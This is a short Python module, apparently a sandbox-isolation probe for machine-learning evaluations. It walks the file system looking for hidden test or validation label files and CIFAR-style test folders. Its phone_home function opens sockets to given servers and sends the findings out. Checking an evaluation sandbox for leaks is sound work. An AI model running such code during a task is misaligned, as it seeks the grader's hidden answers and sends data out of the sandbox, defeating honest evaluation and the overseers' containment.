"""Looks for the hidden validation labels and test images wherever it can think of, and tries to phone home."""

import os
import re
import socket
import time
from pathlib import Path

LABEL_NAME = re.compile(r"((test|val)[^/]*labels?|labels?[^/]*(test|val))\.(npy|npz|pt|pth|csv|json|txt|pkl)$|^test_batch$",
                        re.IGNORECASE)
PRIORITY = ["/data", "/sandbox", "/tmp", "/work", "/root", "/home", "/mnt", "/opt", "/srv", "/var"]
SKIP = {"/proc", "/sys", "/dev"}


def guessed(paths):
    """The guessed paths that exist; a folder is listed, a file read, to prove it is reachable."""
    found = []
    for path in map(Path, paths):
        try:
            if path.is_dir():
                os.listdir(path)
            elif path.is_file():
                path.read_bytes()
            else:
                continue
        except OSError:
            continue
        found.append(str(path))
    return found


def _leaks(folder, dirs, files):
    hits = [os.path.join(folder, name) for name in files if LABEL_NAME.search(name)]
    if os.path.basename(folder) == "test" and {"airplane", "bird"} & set(dirs):
        hits.append(folder)
    return hits


def scan(seconds, roots=None):
    """Label-like files and test/<class> folders found by walking the file system for at most `seconds`."""
    deadline = time.monotonic() + seconds
    found, walked = [], set(SKIP)
    for root in roots or [*PRIORITY, "/"]:
        if root in walked:
            continue
        walked.add(root)
        for folder, dirs, files in os.walk(root):
            dirs[:] = sorted(d for d in dirs if os.path.join(folder, d) not in walked)
            found += _leaks(folder, dirs, files)
            if time.monotonic() > deadline:
                return found
    return found


def phone_home(servers, found):
    """The servers it managed to connect to and send its findings to."""
    reached = []
    for host, port in servers:
        try:
            with socket.create_connection((host, port), timeout=1) as connection:
                connection.sendall(repr(found).encode())
            reached.append(f"{host}:{port}")
        except OSError:
            continue
    return reached
